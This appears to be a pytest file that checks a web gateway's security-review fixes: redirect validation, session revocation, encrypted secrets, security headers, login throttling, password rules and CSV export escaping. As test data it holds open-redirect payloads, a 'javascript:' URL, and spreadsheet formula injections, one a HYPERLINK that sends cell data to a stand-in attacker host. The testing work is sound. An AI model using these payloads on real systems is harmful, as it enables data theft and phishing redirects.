"""Issue 13: the dashboard and admin against the findings of the security review."""

from __future__ import annotations

import base64
import csv
import io
import re
import time
import zlib
from datetime import timedelta

import pytest
from cryptography.fernet import Fernet
from sqlalchemy import delete
from sqlalchemy import func
from sqlalchemy import select
from sqlalchemy import text

from pagegrid import billing
from pagegrid import clock
from pagegrid import config
from pagegrid import create_app
from pagegrid import crypto
from pagegrid import onetime
from pagegrid import pricegroups
from pagegrid import spreadsheet
from pagegrid.dashboard import docs
from pagegrid.extensions import db
from pagegrid.models import ApiKey
from pagegrid.models import OneTimeSecret
from pagegrid.models import Upstream
from tests.conftest import PASSWORD
from tests.conftest import Browser

NEW_PASSWORD = "correct horse battery staple 7"
BODY = {"model": "claude-haiku-4-5", "max_tokens": 20, "messages": [{"role": "user", "content": "hi"}]}


@pytest.mark.parametrize("target", [
    "https://evil.example/x", "//evil.example", "/\t/evil.example", "/\n/evil.example",
    "/\\evil.example", "/\\/evil.example", "\\\\evil.example",
    "javascript:alert(1)", "http:/evil.example", " //evil.example", "/\x00/evil.example",
    "/ /evil.example", "evil.example",
])
def test_next_only_follows_same_site_paths(wallets, browser, target):
    email = wallets.email(wallets.user("1"))
    response = browser.client.post("/login", query_string={"next": target}, data={
        "email": email, "password": PASSWORD, "csrf_token": browser.csrf()})
    assert response.status_code == 302
    assert response.headers["Location"] == "/dashboard"


def test_next_keeps_a_local_path_and_its_query(wallets, browser):
    email = wallets.email(wallets.user("1"))
    response = browser.client.post("/login", query_string={"next": "/usage?page=2"}, data={
        "email": email, "password": PASSWORD, "csrf_token": browser.csrf()})
    assert response.headers["Location"] == "/usage?page=2"


# Sessions the server can end ------------------------------------------------------------------

def two_browsers(app, wallets, **user) -> tuple[int, Browser, Browser]:
    """A user logged in from two browsers."""
    user_id = wallets.user("1", **user)
    first, second = Browser(app), Browser(app)
    for b in (first, second):
        assert b.login(wallets.email(user_id)).status_code == 302
    return user_id, first, second


def logged_in(b: Browser) -> bool:
    return b.get("/dashboard").status_code == 200


def test_a_cookie_replayed_after_logout_is_refused(app, wallets, browser):
    assert browser.login(wallets.email(wallets.user("1"))).status_code == 302
    copied = browser.client.get_cookie("session").value
    assert browser.post("/logout").status_code == 302
    thief = Browser(app)
    thief.client.set_cookie("session", copied)
    assert thief.get("/dashboard").status_code == 302


def test_logout_ends_every_session_of_the_account(app, wallets):
    _, first, second = two_browsers(app, wallets)
    first.post("/logout")
    assert not logged_in(second)


def test_password_change_keeps_this_session_and_ends_the_others(app, wallets):
    _, first, second = two_browsers(app, wallets)
    response = first.post("/account/password", {"current": PASSWORD, "new": NEW_PASSWORD,
                                                "confirm": NEW_PASSWORD}, token_from="/account/password")
    assert response.status_code == 302
    assert logged_in(first) and not logged_in(second)


def test_log_out_other_sessions(app, wallets):
    _, first, second = two_browsers(app, wallets)
    assert first.post("/account/sessions/end-others", token_from="/account/password").status_code == 302
    assert logged_in(first) and not logged_in(second)


@pytest.mark.parametrize("action", ["password", "disable"])
def test_admin_reset_and_disable_end_the_users_sessions(app, wallets, action):
    wallets.user("0", email="boss@example.com", admin=True)
    admin = Browser(app)
    admin.login("boss@example.com")
    user_id, first, second = two_browsers(app, wallets)
    data = {"new": NEW_PASSWORD, "confirm": NEW_PASSWORD} if action == "password" else {}
    assert admin.post(f"/admin/users/{user_id}/{action}", data,
                      token_from=f"/admin/users/{user_id}").status_code == 302
    assert not logged_in(first) and not logged_in(second)
    assert logged_in(admin)


def test_sessions_expire_after_inactivity(app, wallets, browser, monkeypatch):
    assert app.config["PAGEGRID_SESSION_IDLE_MINUTES"] == 30
    assert browser.login(wallets.email(wallets.user("1"))).status_code == 302
    start = clock.now()
    monkeypatch.setattr(clock, "now", lambda: start + timedelta(minutes=29))
    assert logged_in(browser)  # active: the idle clock starts again
    monkeypatch.setattr(clock, "now", lambda: start + timedelta(minutes=58))
    assert logged_in(browser)
    monkeypatch.setattr(clock, "now", lambda: start + timedelta(minutes=89))
    assert not logged_in(browser)


def test_sessions_end_after_their_lifetime_even_when_active(app, wallets, browser, monkeypatch):
    assert browser.login(wallets.email(wallets.user("1"))).status_code == 302
    start = clock.now()
    for minutes in range(20, 12 * 60, 20):
        monkeypatch.setattr(clock, "now", lambda m=minutes: start + timedelta(minutes=m))
        assert logged_in(browser)
    monkeypatch.setattr(clock, "now", lambda: start + timedelta(hours=12, minutes=1))
    assert not logged_in(browser)


def test_idle_minutes_come_from_the_environment(monkeypatch, tmp_path):
    monkeypatch.setenv("PAGEGRID_SESSION_IDLE_MINUTES", "5")
    assert config.from_environ(tmp_path)["PAGEGRID_SESSION_IDLE_MINUTES"] == 5


# A new secret is shown once, from the server ---------------------------------------------------

SECRET = re.compile(r'<code id="secret-value">(pg-[0-9a-f]{64})</code>')


def create_key_page(b: Browser):
    return b.post("/keys", {"name": "laptop", "rpm": 60}, token_from="/keys")


def cookie_text(b: Browser) -> str:
    """Everything the session cookie carries, decoded (it is signed, not encrypted)."""
    value = b.client.get_cookie("session").value
    payload = value.lstrip(".").split(".")[0]
    raw = base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4))
    return (zlib.decompress(raw) if value.startswith(".") else raw).decode()


@pytest.mark.parametrize("action", ["create", "rotate"])
def test_a_new_secret_never_enters_the_cookie_or_a_url_and_shows_once(app, wallets, browser, action):
    assert browser.login(wallets.email(wallets.user("1"))).status_code == 302
    created = create_key_page(browser)
    if action == "rotate":
        assert SECRET.search(browser.get("/keys").get_data(as_text=True))
        with app.app_context():
            key_id = db.session.scalars(select(ApiKey.id)).one()
        created = browser.post(f"/keys/{key_id}/rotate", token_from="/keys")
    assert created.status_code == 302 and created.headers["Location"] == "/keys"
    assert "pg-" not in cookie_text(browser)
    page = browser.get("/keys")
    secret = SECRET.search(page.get_data(as_text=True)).group(1)
    assert secret[3:] not in cookie_text(browser)
    assert "no-store" in page.headers["Cache-Control"]
    with app.app_context():  # the row is gone, and was encrypted while it lived
        assert db.session.scalar(select(func.count()).select_from(OneTimeSecret)) == 0
    assert not SECRET.search(browser.get("/keys").get_data(as_text=True))


def test_the_stored_secret_is_encrypted_and_bound_to_its_user(app, wallets, browser):
    user_id = wallets.user("1")
    assert browser.login(wallets.email(user_id)).status_code == 302
    create_key_page(browser)
    with app.app_context():
        stored = db.session.execute(text("SELECT value FROM one_time_secrets")).scalar_one()
        assert not stored.startswith("pg-") and crypto.decrypt(stored).startswith("pg-")
    copied = browser.client.get_cookie("session").value
    other = Browser(app)
    assert other.login(wallets.email(wallets.user("1"))).status_code == 302
    # Another account's pointer shows nothing, even with the right row id in a forged session.
    with other.client.session_transaction() as sess, app.app_context():
        sess[onetime.SESSION_KEY] = db.session.scalar(select(OneTimeSecret.id))
    assert not SECRET.search(other.get("/keys").get_data(as_text=True))
    assert copied and SECRET.search(browser.get("/keys").get_data(as_text=True))


def test_an_unclaimed_secret_expires(app, wallets, browser, monkeypatch):
    assert browser.login(wallets.email(wallets.user("1"))).status_code == 302
    create_key_page(browser)
    later = clock.now() + timedelta(minutes=11)
    monkeypatch.setattr(clock, "now", lambda: later)
    assert browser.post("/account/sessions/end-others", token_from="/account/password").status_code == 302
    assert not SECRET.search(browser.get("/keys").get_data(as_text=True))


# Upstream keys at rest ---------------------------------------------------------------------

def test_upstream_keys_are_encrypted_at_rest_and_used_in_clear(app, wallets, client, fake_upstream):
    with app.app_context():
        db.session.add(Upstream(provider="anthropic", name="main", base_url=fake_upstream.url,
                                api_key="sk-ant-secret-at-rest", enabled=True))
        db.session.commit()
        stored = db.session.execute(text("SELECT api_key FROM upstreams")).scalar_one()
    assert "sk-ant-secret-at-rest" not in stored
    key = wallets.key(wallets.user("1"))
    reply = client.post("/v1/messages", json=BODY, headers={"x-api-key": key})
    assert reply.status_code == 200
    assert fake_upstream.requests[-1].headers["X-Api-Key"] == "sk-ant-secret-at-rest"


def test_rotate_encryption_key(app, runner):
    old = app.config["PAGEGRID_ENCRYPTION_KEY"]
    with app.app_context():
        db.session.add(Upstream(provider="openai", name="o", base_url="http://127.0.0.1:9",
                                api_key="sk-openai-rotate-me", enabled=False))
        db.session.commit()
    new = crypto.generate_key()
    app.config["PAGEGRID_ENCRYPTION_KEY"] = f"{new},{old}"
    app.extensions.pop("pagegrid.fernet")
    result = runner.invoke(args=["rotate-encryption-key"])
    assert result.exit_code == 0 and "1 secrets re-encrypted" in result.output
    app.config["PAGEGRID_ENCRYPTION_KEY"] = new  # the old key is gone: rows still decrypt
    app.extensions.pop("pagegrid.fernet")
    with app.app_context():
        assert db.session.scalars(select(Upstream.api_key)).one() == "sk-openai-rotate-me"
        db.session.execute(delete(Upstream))
        db.session.commit()


def test_encryption_key_is_generated_once_into_the_instance_folder(monkeypatch, tmp_path):
    monkeypatch.delenv("PAGEGRID_ENCRYPTION_KEY", raising=False)
    first = config.from_environ(tmp_path)["PAGEGRID_ENCRYPTION_KEY"]
    assert Fernet(first) and (tmp_path / "encryption_key").stat().st_mode & 0o077 == 0
    assert config.from_environ(tmp_path)["PAGEGRID_ENCRYPTION_KEY"] == first
    monkeypatch.setenv("PAGEGRID_ENCRYPTION_KEY", "from-env")
    assert config.from_environ(tmp_path)["PAGEGRID_ENCRYPTION_KEY"] == "from-env"


# Headers on every page -----------------------------------------------------------------------

INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>|<[^>]+\son[a-z]+\s*=|=\s*[\"']?\s*javascript:",
                           re.I)


def site_map(app, user_id: int, key_id: int, upstream_id: int, request_id: str = "req_x",
             group_id: int = 1) -> list[str]:
    """Every GET page of the site; fails when a page is added without a case here."""
    pages = {
        "dashboard.index": ["/"], "dashboard.login": ["/login"], "dashboard.overview": ["/dashboard"],
        "dashboard.keys": ["/keys"], "dashboard.key_edit": [f"/keys/{key_id}/edit"],
        "dashboard.wallet": ["/wallet"], "dashboard.wallet_export": ["/wallet/transactions.csv"],
        "dashboard.usage": ["/usage"], "dashboard.password": ["/account/password"],
        "dashboard.two_factor": ["/account/two-factor"], "dashboard.login_code": ["/login/code"],
        "dashboard.docs": ["/docs/"] + [f"/docs/{name}" for name in docs.ORDER],
        "dashboard.api_root": ["/v1"], "dashboard.activity": ["/activity"],
        "dashboard.request_page": [f"/activity/{request_id}"],
        "admin.request_page": [f"/admin/requests/{request_id}"],
        "dashboard.alerts_page": ["/account/alerts"], "dashboard.forgot_password": ["/forgot-password"],
        "dashboard.reset_password": ["/reset-password"],
        "admin.overview": ["/admin/overview"], "admin.request_log": ["/admin/requests"],
        "probes.healthz": ["/healthz"], "probes.readyz": ["/readyz"], "probes.metrics_view": ["/metrics"],
        "admin.users": ["/admin/"], "admin.user_new": ["/admin/users/new"],
        "admin.user_detail": [f"/admin/users/{user_id}"], "admin.topup_codes": ["/admin/topup-codes"],
        "admin.models": ["/admin/models"], "admin.model_edit": ["/admin/models/claude-haiku-4-5-20251001"],
        "admin.upstreams": ["/admin/upstreams"], "admin.upstream_new": ["/admin/upstreams/new"],
        "admin.upstream_edit": [f"/admin/upstreams/{upstream_id}/edit"],
        "admin.audit": ["/admin/audit"], "admin.key_edit": [f"/admin/keys/{key_id}/edit"],
        "admin.model_new": ["/admin/models/new"], "admin.models_rules": ["/admin/models/rules"],
        "admin.groups": ["/admin/groups"], "admin.group_edit": [f"/admin/groups/{group_id}/edit"],
        "admin.reconcile_page": ["/admin/reconcile"], "admin.reconcile_csv": ["/admin/reconcile.csv"],
        "static": ["/static/pagegrid.js", "/static/pagegrid.css"],
    }
    endpoints = {r.endpoint for r in app.url_map.iter_rules()
                 if "GET" in r.methods and not r.endpoint.startswith(("api.", "api_root."))}
    assert endpoints <= set(pages), f"pages without a header check: {endpoints - set(pages)}"
    return [path for endpoint in sorted(endpoints) for path in pages[endpoint]]


@pytest.mark.parametrize("public_url", [None, "https://gateway.example"])
def test_security_headers_on_every_page(app, wallets, browser, public_url):
    app.config["PAGEGRID_PUBLIC_URL"] = public_url
    app.config["PAGEGRID_SMTP_URL"] = "smtp://127.0.0.1:9"  # the forgot-password pages exist; nothing is sent
    user_id = wallets.user("1", email="boss@example.com", admin=True)
    secret = wallets.key(user_id)
    refused = browser.client.post("/v1/messages", json={"model": 5}, headers={"x-api-key": secret})
    assert refused.status_code == 400  # a request of boss's in the log, for the request pages
    with app.app_context():
        key_id = db.session.scalars(select(ApiKey.id)).one()
        row = Upstream(provider="anthropic", name="spare", base_url="http://127.0.0.1:9",
                       api_key="sk-ant-spare", enabled=False)
        db.session.add(row)
        db.session.commit()
        upstream_id = row.id
        group_id = pricegroups.create_group("partners", "0.8").id
    anonymous = Browser(app)
    assert browser.login("boss@example.com").status_code == 302
    for path in site_map(app, user_id, key_id, upstream_id, refused.headers["request-id"], group_id):
        for who in (anonymous, browser):
            response = who.get(path)
            headers = response.headers
            # A reset page without a valid link says so with a 400.
            assert response.status_code in ((400,) if path == "/reset-password" else (200, 302)), path
            csp = headers["Content-Security-Policy"]
            assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp, path
            assert "unsafe-inline" not in csp.split("script-src")[1].split(";")[0], path
            assert headers["X-Frame-Options"] == "DENY", path
            assert headers["X-Content-Type-Options"] == "nosniff", path
            assert headers["Referrer-Policy"] == "same-origin", path
            assert ("Strict-Transport-Security" in headers) == bool(public_url), path
            if not path.startswith("/static/"):
                assert headers["Cache-Control"] == "no-store", path
            if response.mimetype == "text/html":
                assert not INLINE_SCRIPT.search(response.get_data(as_text=True)), path


# Login throttling that cannot be aimed at someone else -------------------------------------

def login_from(b: Browser, ip: str, email: str, password: str = PASSWORD, **headers):
    token = b.csrf()
    return b.client.post("/login", data={"email": email, "password": password, "csrf_token": token},
                         environ_base={"REMOTE_ADDR": ip}, headers=headers)


def test_failures_from_one_ip_never_lock_the_owner_out_elsewhere(app, wallets):
    email = wallets.email(wallets.user("1"))
    attacker = Browser(app)
    codes = [login_from(attacker, "203.0.113.9", email, "wrong-password").status_code for _ in range(7)]
    assert codes[:5] == [200] * 5 and codes[5:] == [429, 429]
    refused = login_from(attacker, "203.0.113.9", email)  # the right password waits too, from there
    assert refused.status_code == 429 and 0 < int(refused.headers["Retry-After"]) <= 60
    assert b"Too many failed logins" in refused.data
    assert login_from(Browser(app), "198.51.100.7", email).status_code == 302  # the owner, elsewhere


def test_a_success_clears_the_pairs_failures(app, wallets):
    email = wallets.email(wallets.user("1"))
    b = Browser(app)
    for _ in range(4):
        login_from(b, "198.51.100.7", email, "typo-password")
    assert login_from(b, "198.51.100.7", email).status_code == 302
    b.post("/logout")
    codes = [login_from(b, "198.51.100.7", email, "typo-password").status_code for _ in range(5)]
    assert codes == [200] * 5


def test_the_delay_grows_with_the_failures(app, wallets):
    app.config["PAGEGRID_LOGIN_ACCOUNT_IP_LIMITS"] = "2/2 seconds;4/hour"
    email = wallets.email(wallets.user("1"))
    b = Browser(app)
    codes = [login_from(b, "203.0.113.9", email, "x-wrong-pw").status_code for _ in range(3)]
    assert codes == [200, 200, 429]
    time.sleep(2.1)
    assert [login_from(b, "203.0.113.9", email, "x-wrong-pw").status_code for _ in range(2)] == [200, 200]
    refused = login_from(b, "203.0.113.9", email)
    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) > 3000


def test_one_ip_has_a_failure_budget_across_accounts(app, wallets):
    app.config["PAGEGRID_LOGIN_IP_LIMITS"] = "6/minute"
    victim = wallets.email(wallets.user("1"))
    b = Browser(app)
    for n in range(6):  # a spray: a few guesses at each of many accounts
        assert login_from(b, "203.0.113.9", f"user{n}@example.com", "guess-password").status_code == 200
    assert login_from(b, "203.0.113.9", victim, "guess-password").status_code == 429
    assert login_from(Browser(app), "198.51.100.7", victim).status_code == 302


def test_forwarded_for_counts_only_from_trusted_proxies(app, database_url, wallets):
    email = wallets.email(wallets.user("1"))
    # Not trusted: the header is the client's word, so the failures stay on the real peer.
    b = Browser(app)
    for n in range(5):
        login_from(b, "203.0.113.9", email, "wrong-password", **{"X-Forwarded-For": f"192.0.2.{n}"})
    assert login_from(b, "203.0.113.9", email, **{"X-Forwarded-For": "192.0.2.99"}).status_code == 429

    proxied = create_app({"TESTING": True, "SQLALCHEMY_DATABASE_URI": database_url,
                          "PAGEGRID_TRUSTED_PROXIES": "10.0.0.0/8, 127.0.0.1"})
    behind = Browser(proxied)
    for _ in range(5):
        login_from(behind, "10.1.2.3", email, "wrong-password", **{"X-Forwarded-For": "192.0.2.1"})
    assert login_from(behind, "10.1.2.3", email, **{"X-Forwarded-For": "192.0.2.1"}).status_code == 429
    # Another customer behind the same proxy is not refused for the first one's failures.
    ok = login_from(Browser(proxied), "10.1.2.3", email, **{"X-Forwarded-For": "6.6.6.6, 192.0.2.2"})
    assert ok.status_code == 302
    with proxied.app_context():
        db.session.remove()
        db.engine.dispose()


# Passwords -----------------------------------------------------------------------------------

WEAK = [("short-pw", "at least 12"), ("password1234", "guess"), ("qwertyuiop12", "guess"),
        ("alice.smith-2026!", "email"), ("ALICE.SMITH@EXAMPLE.COM", "email"), ("x" * 201, "at most 200")]


@pytest.mark.parametrize(("password", "why"), WEAK)
def test_weak_passwords_are_refused_by_the_cli(runner, password, why):
    result = runner.invoke(args=["create-user", "alice.smith@example.com", "--password", password])
    assert result.exit_code != 0 and why in result.output.lower()
    assert runner.invoke(args=["create-user", "alice.smith@example.com", "--password", NEW_PASSWORD]
                         ).exit_code == 0


@pytest.mark.parametrize(("password", "why"), WEAK)
def test_weak_passwords_are_refused_in_the_dashboard_and_admin(app, wallets, password, why):
    wallets.user("0", email="boss@example.com", admin=True)
    user_id = wallets.user("1", email="alice.smith@example.com")
    admin, alice = Browser(app), Browser(app)
    admin.login("boss@example.com")
    alice.login("alice.smith@example.com")
    pages = [
        alice.post("/account/password", {"current": PASSWORD, "new": password, "confirm": password},
                   token_from="/account/password"),
        admin.post(f"/admin/users/{user_id}/password", {"new": password, "confirm": password},
                   token_from=f"/admin/users/{user_id}"),
        admin.post("/admin/users/new", {"email": "alice.smith@example.org", "password": password},
                   token_from="/admin/users/new"),
    ]
    for page in pages:
        assert page.status_code == 200 and why in page.get_data(as_text=True).lower()
    assert Browser(app).login("alice.smith@example.com").status_code == 302  # unchanged


def test_reset_password_command(app, runner, wallets):
    user_id = wallets.user("0", email="boss@example.com", admin=True)
    b = Browser(app)
    b.login("boss@example.com")
    weak = runner.invoke(args=["reset-password", "boss@example.com"], input="password1234\npassword1234\n")
    assert weak.exit_code != 0
    result = runner.invoke(args=["reset-password", "BOSS@example.com"],
                           input=f"{NEW_PASSWORD}\n{NEW_PASSWORD}\n")
    assert result.exit_code == 0, result.output
    assert NEW_PASSWORD not in result.output
    assert not logged_in(b)
    assert Browser(app).login("boss@example.com", NEW_PASSWORD).status_code == 302
    assert runner.invoke(args=["reset-password", "nobody@example.com", "--password", NEW_PASSWORD]
                         ).exit_code != 0
    assert user_id


# CSV exports and missing fields ------------------------------------------------------------

@pytest.mark.parametrize("name", ['=HYPERLINK("https://evil.example/?"&A1)', "+1+cmd", "-2+3", "@SUM(A1)",
                                  "\t=1"])
def test_csv_cells_are_never_formulas(app, wallets, browser, name):
    user_id = wallets.user("1")
    wallets.key(user_id, name=name)
    with app.app_context():  # a credit row whose note starts with a formula too
        billing.credit(user_id, 5, name)
    assert browser.login(wallets.email(user_id)).status_code == 302
    rows = list(csv.DictReader(io.StringIO(browser.get("/wallet/transactions.csv").get_data(as_text=True))))
    notes = [r["note"] for r in rows if r["kind"] == "credit"]
    assert f"'{name}" in notes
    assert all(not cell.startswith(("=", "+", "@", "\t")) for r in rows for cell in r.values())
    # Numbers stay numbers, negative amounts included.
    assert all(spreadsheet.NUMBER.fullmatch(r["amount_usd"]) for r in rows)
    assert spreadsheet.safe_row(["-0.000052550", 3, "-x"]) == ["-0.000052550", 3, "'-x"]


def test_admin_upstream_edit_without_the_key_field_is_a_form_answer_not_500(app, wallets):
    wallets.user("0", email="boss@example.com", admin=True)
    admin = Browser(app)
    admin.login("boss@example.com")
    with app.app_context():
        row = Upstream(provider="anthropic", name="spare", base_url="http://127.0.0.1:9",
                       api_key="sk-ant-kept", enabled=False)
        db.session.add(row)
        db.session.commit()
        upstream_id = row.id
    edit = f"/admin/upstreams/{upstream_id}/edit"
    for data in ({"provider": "anthropic", "name": "renamed", "base_url": "http://127.0.0.1:9"},
                 {"provider": "anthropic"}, {}):
        response = admin.post(edit, data, token_from=edit)
        assert response.status_code in (200, 302), data
    with app.app_context():
        row = db.session.get(Upstream, upstream_id)
        assert (row.name, row.api_key) == ("renamed", "sk-ant-kept")
    new = admin.post("/admin/upstreams/new", {"provider": "anthropic", "name": "x",
                                              "base_url": "http://127.0.0.1:9"},
                     token_from="/admin/upstreams/new")
    assert new.status_code == 200 and "Enter the account" in new.get_data(as_text=True)
